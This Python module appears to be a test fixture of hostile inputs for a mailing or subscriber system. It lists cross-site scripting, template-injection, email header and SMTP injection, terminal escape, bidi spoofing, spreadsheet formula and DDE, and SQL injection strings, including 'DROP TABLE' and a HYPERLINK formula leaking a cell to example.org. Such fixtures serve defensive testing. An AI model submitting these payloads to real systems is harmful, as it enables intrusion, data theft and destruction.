"""What attackers write where a name, a city, a title or a server's words are asked for."""

from __future__ import annotations

SCRIPTS = (
    "<script>alert('stolen')</script>",
    "\"><img src=x onerror=alert('stolen')>",
    "' onmouseover='alert(1)' x='",
    "</textarea></title></style></script><svg onload=alert('stolen')>",
    "javascript:alert('stolen')",
    "[stolen](javascript:alert('stolen'))",
    "![stolen](https://example.org/spy.gif)",
    "<a href=\"data:text/html,<script>alert('stolen')</script>\">x</a>",
    "<iframe srcdoc=\"<script>alert('stolen')</script>\"></iframe>",
    "<!--<img src=\"--><img src=x onerror=alert('stolen')//\">",
    "<![endif]--><script>alert('stolen')</script><!--[if mso]>",
    "]]><script>alert('stolen')</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('stolen')>",
    "&lt;script&gt;alert('stolen')&lt;/script&gt;",
)

TEMPLATES = (
    "{{ 7*191 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config }}",
    "${7*191}",
    "#{7*191}",
    "{name.__class__}",
    "{0.__globals__}",
    "%(name)s%n",
    "@@s0123456789ab.address@@",
    "@@s0123456789ab.if0@@",
    "@@s0123456789ab.end0@@",
    "https://s0123456789ab.invalid/unsubscribe_url",
    "{{ address }}",
    "*|EMAIL|*",
    "[[EMAIL]]",
)

LINES = (
    "x\r\nBcc: victim@example.org",
    "x\nBcc: victim@example.org",
    "x\rBcc: victim@example.org",
    "x\r\n\r\n<html>another body",
    "x\r\n.\r\nMAIL FROM:<a@example.org>\r\n",
    "x\n.\nMAIL FROM:<a@example.org>\n",
    "x\r.\r\nRSET\r\n",
    "x\n.\r\nRSET\r\n",
    "x\u2028Bcc: victim@example.org",
    "x\u2029Bcc: victim@example.org",
    "x\u0085Bcc: victim@example.org",
    "x\x0bBcc: victim@example.org",
    "x\x0cBcc: victim@example.org",
    "x\x1cBcc: victim@example.org",
    "x\x00Bcc: victim@example.org",
    "x\udc0d\udc0aBcc: victim@example.org",
    "x嘍嘊Bcc: victim@example.org",  # U+560D U+560A: cut to octets these are CR and LF
    "=?utf-8?q?x=0D=0ABcc:_victim@example.org?=",
    "=0D=0ABcc: victim@example.org",
    "%0d%0aBcc: victim@example.org",
)

STEERING = (
    "\x1b[2J\x1b[H",
    "\x1b]0;stolen\x07",
    "\x1b]52;c;c3RvbGVu\x07",
    "\x1b]8;;https://example.org/\x1b\\click\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\",
    "\x9b31m",
    "\x9d0;stolen\x9c",
    "good\rbad",
    "\x08\x08\x08\x08bad",
    "\x7f",
)

TURNING = ("\u202egnp.exe", "\u2066x\u2069", "\u202dx\u202c")

FORMULAS = (
    '=HYPERLINK("https://example.org/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "'=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
)

SQL = (
    "' OR '1'='1",
    "'; DROP TABLE subscribers; --",
    '"; DROP TABLE subscribers; --',
    "%' UNION SELECT address FROM subscribers --",
    "\\'; SELECT pg_sleep(10); --",
    "`; DROP TABLE subscribers; --",
    "1); DELETE FROM deliveries; --",
    ":name",
    "?",
    "$1",
    "%s",
    "_",
    "%",
)

EVERYTHING = (*SCRIPTS, *TEMPLATES, *LINES, *STEERING, *TURNING, *FORMULAS, *SQL)
